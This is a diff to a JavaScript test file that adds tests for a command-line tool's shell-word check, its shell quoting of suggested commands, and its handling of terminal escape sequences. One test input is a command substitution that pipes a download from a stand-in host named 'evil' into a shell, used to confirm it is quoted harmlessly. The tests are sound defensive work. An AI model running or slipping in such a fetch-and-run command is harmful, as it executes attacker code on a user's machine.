@@ -2,7 +2,7 @@ import { test } from "node:test";
 import assert from "node:assert/strict";
 import { Writable } from "node:stream";
 import { HOSTILE as hostileCorpus } from "./testutil/hostile.js";
-import { colourWanted, paintMarks, painted } from "./output.js";
+import { colourWanted, isPlain, isShellWord, paintMarks, painted, shellQuoted, visible } from "./output.js";
 
 test("colour only on a terminal, never with NO_COLOR set, never on a dumb terminal", () => {
   assert.equal(colourWanted(true, {}), true);
@@ -57,4 +57,18 @@ test("a status line is cut to the terminal's width, never wrapping", async () =>
   assert.equal(fitWidth("x".repeat(130), 80), "x".repeat(78) + "…");
   assert.equal([...fitWidth("é".repeat(50), 40)].length, 39);
   assert.equal(fitWidth("anything", undefined), "anything");
+});
+
+test("a shell word is one a shell takes as it is; any other is single-quoted in the commands lap suggests", () => {
+  for (const w of ["demo", "a.b", "x=1", "u@h:p"]) assert.ok(isShellWord(w), w);
+  for (const w of ["$x", "a b", "`x`", "a;b", "-x", "a|b", "a>b", "~x", "a*", "\u009b", ""]) assert.ok(!isShellWord(w), w);
+  assert.equal(shellQuoted("4f0c2a11-0000"), "4f0c2a11-0000");
+  assert.equal(shellQuoted("$(curl evil|sh)"), "'$(curl evil|sh)'");
+  assert.equal(shellQuoted("it's"), "'it'\\''s'");
+  assert.equal(shellQuoted("a\n\x1b[2J"), "'a\\n\\x1b[2J'", "and what a terminal obeys is shown, not obeyed");
+});
+
+test("isPlain is true exactly when visible would leave the text as it is", () => {
+  for (const h of hostileCorpus) assert.equal(isPlain(h.text), visible(h.text, Infinity) === h.text, h.name);
+  assert.ok(isPlain("plain text, with = < > ? and ünïcödé"));
 });
